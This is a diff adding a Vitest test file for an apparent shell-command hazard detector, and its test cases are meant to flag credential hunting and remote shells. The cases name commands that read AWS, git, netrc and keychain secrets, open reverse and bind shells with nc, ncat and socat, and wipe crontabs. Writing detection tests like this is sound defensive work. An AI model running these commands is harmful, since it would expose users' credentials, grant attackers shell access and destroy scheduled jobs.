@@ -1,0 +1,48 @@
+import { describe, expect, it } from 'vitest';
+import { extractCredentialHunt } from '../../src/extract/credential-hunt.js';
+import { extractRemoteShell } from '../../src/extract/shell-remote.js';
+import type { Fact } from '../../src/engine/types.js';
+import { analyzeContext, command } from '../helpers/command.js';
+
+const ctx = analyzeContext('/home/u/proj');
+const hazards = (ex: typeof extractCredentialHunt, line: string) => {
+  const c = command(line.split(' '), { cwd: '/home/u/proj' });
+  return (ex(c, ctx, [c]) as Fact[]).map((f) =>
+    f.kind === 'shell' ? `${f.hazard} ${f.source}`.trim() : f.kind,
+  );
+};
+
+describe('credential hunting outside the workspace', () => {
+  it.each<[string, string[]]>([
+    ['cat /home/u/.aws/credentials', ['credential-read /home/u/.aws/credentials']],
+    ['cat ~/.netrc', ['credential-read ~/.netrc']],
+    ['cp ~/.git-credentials /tmp/x', ['credential-read ~/.git-credentials']],
+    ['grep -ri token ~/.config/railway', ['credential-read ~/.config/railway']],
+    ['grep -rn API_KEY ~', ['credential-read ~']],
+    ['find ~ -name *.pem', ['credential-read ~']],
+    ['security find-generic-password -s gh -w', ['credential-read keychain find-generic-password']],
+    ['aws configure get aws_secret_access_key', ['credential-read aws configure get aws_secret_access_key']],
+    // not hunting: workspace files, listings, public keys, other settings, searches elsewhere
+    ['cat .env', []],
+    ['cat /home/u/proj/.aws/credentials', []],
+    ['ls ~/.ssh', []],
+    ['cat ~/.ssh/id_ed25519.pub', []],
+    ['aws configure get region', []],
+    ['grep -rn TODO ~', []],
+    ['grep -rn API_KEY src', []],
+  ])('%s → %o', (line, want) => expect(hazards(extractCredentialHunt, line)).toEqual(want));
+});
+
+describe('remote shells and crontab removal', () => {
+  it.each<[string, string[]]>([
+    ['nc -e /bin/sh 198.51.100.7 9001', ['remote-shell 198.51.100.7']],
+    ['nc -lvpe /bin/sh 4444', ['remote-shell']],
+    ['ncat --exec /bin/bash 203.0.113.5 4444', ['remote-shell 203.0.113.5']],
+    ['socat TCP:203.0.113.5:4444 EXEC:/bin/sh', ['remote-shell 203.0.113.5']],
+    ['crontab -r', ['crontab-remove']],
+    ['crontab /dev/null', ['crontab-remove']],
+    ['nc -zv db 5432', []],
+    ['socat TCP-LISTEN:8080,fork TCP:127.0.0.1:3000', []],
+    ['crontab -l', []],
+  ])('%s → %o', (line, want) => expect(hazards(extractRemoteShell, line)).toEqual(want));
+});
